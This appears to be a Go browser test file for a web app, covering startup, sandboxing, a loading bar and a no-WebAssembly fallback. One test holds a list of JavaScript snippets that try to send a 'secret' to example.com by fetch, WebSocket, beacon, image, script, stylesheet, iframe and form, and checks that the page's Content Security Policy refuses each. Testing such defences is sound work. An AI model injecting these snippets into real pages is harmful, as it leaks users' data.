//go:build !js

package browsertest

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

const started = `performance.getEntriesByName("memtide:running").length > 0`

// The page starts without a complaint and asks nobody but its own host.
func TestQuietStart(t *testing.T) {
	p := Open(t, "")
	p.Wait(started, 20*time.Second)
	p.Wait(`window.echarts !== undefined`, 10*time.Second)
	time.Sleep(300 * time.Millisecond) // workers start and warm up
	p.Quiet()
}

// What was dropped on the page cannot be sent anywhere: each way out is tried,
// and the policy refuses it. The host name would not resolve anyway, so the
// proof is the violation that the browser reports, not the failure.
func TestNoWayOut(t *testing.T) {
	for _, c := range []struct{ name, directive, try string }{
		{"fetch", "connect-src", `fetch("https://example.com/?secret").catch(() => {})`},
		{"websocket", "connect-src", `try { new WebSocket("wss://example.com/") } catch {}`},
		{"beacon", "connect-src", `navigator.sendBeacon("https://example.com/", "secret")`},
		{"image", "img-src", `new Image().src = "https://example.com/?secret"`},
		{"script", "script-src", `document.head.append(Object.assign(document.createElement("script"), {src: "https://example.com/x.js"}))`},
		{"style", "style-src", `document.head.append(Object.assign(document.createElement("link"), {rel: "stylesheet", href: "https://example.com/x.css"}))`},
		{"frame", "frame-src", `document.body.append(Object.assign(document.createElement("iframe"), {src: "https://example.com/"}))`},
		{"form", "form-action", `{ const f = document.createElement("form"); f.action = "https://example.com/"; f.method = "post"; document.body.append(f); f.submit(); }`},
		{"eval", "script-src", `new Function("return 1")()`},
	} {
		t.Run(c.name, func(t *testing.T) {
			p := Open(t, "")
			p.Wait(started, 20*time.Second)
			Eval[bool](p, `window.refused = []; addEventListener("securitypolicyviolation", (e) => { if (e.disposition === "enforce") refused.push(e.effectiveDirective) }); true`)
			// From a timer, because the policy does not hold for what a debugger evaluates.
			Eval[bool](p, fmt.Sprintf(`setTimeout(() => { %s }); true`, c.try))
			p.Wait(fmt.Sprintf(`refused.some((d) => d.startsWith(%q))`, c.directive), 3*time.Second)
		})
	}
}

// A page in a frame that may only run scripts has no origin of its own: new
// Worker(address) is refused there, and storage throws. The page works.
func TestSandboxed(t *testing.T) {
	p := Open(t, "?selftest&sandbox")
	p.Wait(`window.memtide && memtide.request`, 20*time.Second)
	if origin := Eval[string](p, `self.origin`); origin != "null" {
		t.Fatalf("the page has the origin %q; the test needs a sandboxed one, null", origin)
	}
	solveNow(p)
}

// While the engine is loading over a slow line, the page says how far it is.
func TestLoadingBar(t *testing.T) {
	p := New(t)
	p.SlowNetwork(2<<20, 20*time.Millisecond)
	p.Navigate("")
	p.Wait(`document.querySelector("#boot progress")?.value > 0`, 10*time.Second)
	if max, size := Eval[int](p, `document.querySelector("#boot progress").max`), Eval[int](p, `Number(document.querySelector("script[data-size]").dataset.size)`); max != size || size < 1<<20 {
		t.Errorf("the bar ends at %d; want the size of the engine, %d", max, size)
	}
	p.Wait(started, 30*time.Second)
	p.Wait(`document.querySelector("#boot").hidden`, 5*time.Second)
}

// Where WebAssembly is missing, the prepared picture stays and the page says why.
func TestNoWebAssembly(t *testing.T) {
	p := New(t)
	p.Before(`delete globalThis.WebAssembly`)
	p.Navigate("")
	p.Wait(`document.querySelector('#boot[role="alert"]') && !document.querySelector("#boot").hidden`, 10*time.Second)
	if text := p.Text("#boot"); !strings.Contains(text, "this browser has no WebAssembly") {
		t.Errorf("got %q, want the reason", text)
	}
	if n := Eval[int](p, `document.querySelector("#app").textContent.trim().length`); n == 0 {
		t.Error("#app is empty; want the prepared picture")
	}
}
